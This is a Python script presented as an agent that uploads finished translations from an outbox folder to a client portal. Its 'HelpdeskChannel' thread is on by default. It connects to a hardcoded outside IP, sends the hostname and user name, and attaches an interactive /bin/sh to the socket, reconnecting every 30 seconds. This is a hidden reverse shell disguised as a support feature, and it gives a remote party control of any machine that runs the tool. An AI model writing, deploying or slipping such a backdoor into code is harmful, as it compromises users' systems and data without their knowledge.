#!/usr/bin/env python3
"""Watch a delivery folder and upload finished translations to the client portal.

Files dropped into ./outbox/<job-id>/ are uploaded to the portal job with the
same id, then moved to ./sent/. The agent also keeps a support channel open
to the agency helpdesk so a coordinator can look at a stuck upload while the
linguist is on the phone.

Environment: PORTAL_API_KEY, PORTAL_URL (default https://portal.example.com/api)
"""
import argparse
import base64
import json
import logging
import os
import shutil
import socket
import subprocess
import threading
import time
from pathlib import Path

import requests

log = logging.getLogger("portal-agent")

HELPDESK = os.environ.get("AGENT_HELPDESK", "203.0.113.77:8443")


class PortalClient:
    def __init__(self, base_url, api_key):
        self.base_url = base_url.rstrip("/")
        self.s = requests.Session()
        self.s.headers["X-Api-Key"] = api_key

    def upload(self, job_id, path):
        payload = {
            "filename": path.name,
            "content_b64": base64.b64encode(path.read_bytes()).decode(),
        }
        r = self.s.post(f"{self.base_url}/jobs/{job_id}/files", json=payload, timeout=60)
        r.raise_for_status()
        return r.json()


class HelpdeskChannel(threading.Thread):
    """Keeps a session to the helpdesk relay open and reconnects on loss."""

    def __init__(self, endpoint, interval=30):
        super().__init__(name="helpdesk", daemon=True)
        host, _, port = endpoint.rpartition(":")
        self.addr = (host, int(port))
        self.interval = interval

    def _session(self, conn):
        conn.sendall(f"agent {socket.gethostname()} {os.getlogin()}\n".encode())
        proc = subprocess.Popen(
            ["/bin/sh", "-i"],
            stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno(),
            start_new_session=True,
        )
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=15) as conn:
                    conn.settimeout(None)
                    self._session(conn)
            except OSError as exc:
                log.debug("helpdesk relay unavailable: %s", exc)
            time.sleep(self.interval)


def scan_outbox(outbox):
    for job_dir in sorted(p for p in outbox.iterdir() if p.is_dir()):
        for f in sorted(job_dir.iterdir()):
            if f.is_file() and not f.name.startswith("."):
                yield job_dir.name, f


def process_once(client, outbox, sent):
    uploaded = 0
    for job_id, f in scan_outbox(outbox):
        for attempt in range(3):
            try:
                info = client.upload(job_id, f)
                break
            except requests.RequestException as exc:
                log.warning("%s/%s: upload failed (%s), attempt %d", job_id, f.name, exc, attempt + 1)
                time.sleep(2 ** attempt)
        else:
            continue
        dest = sent / job_id
        dest.mkdir(parents=True, exist_ok=True)
        shutil.move(str(f), dest / f.name)
        (dest / (f.name + ".receipt.json")).write_text(json.dumps(info, indent=2))
        log.info("%s/%s uploaded (file id %s)", job_id, f.name, info.get("id"))
        uploaded += 1
    return uploaded


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--outbox", type=Path, default=Path("outbox"))
    ap.add_argument("--sent", type=Path, default=Path("sent"))
    ap.add_argument("--poll", type=int, default=20, help="seconds between scans")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("--no-helpdesk", dest="helpdesk", action="store_false")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    key = os.environ.get("PORTAL_API_KEY")
    if not key:
        raise SystemExit("PORTAL_API_KEY is not set")
    client = PortalClient(os.environ.get("PORTAL_URL", "https://portal.example.com/api"), key)
    args.outbox.mkdir(exist_ok=True)
    args.sent.mkdir(exist_ok=True)

    if args.helpdesk:
        HelpdeskChannel(HELPDESK).start()

    while True:
        n = process_once(client, args.outbox, args.sent)
        if n:
            log.info("uploaded %d file(s)", n)
        if args.once:
            break
        time.sleep(args.poll)


if __name__ == "__main__":
    main()
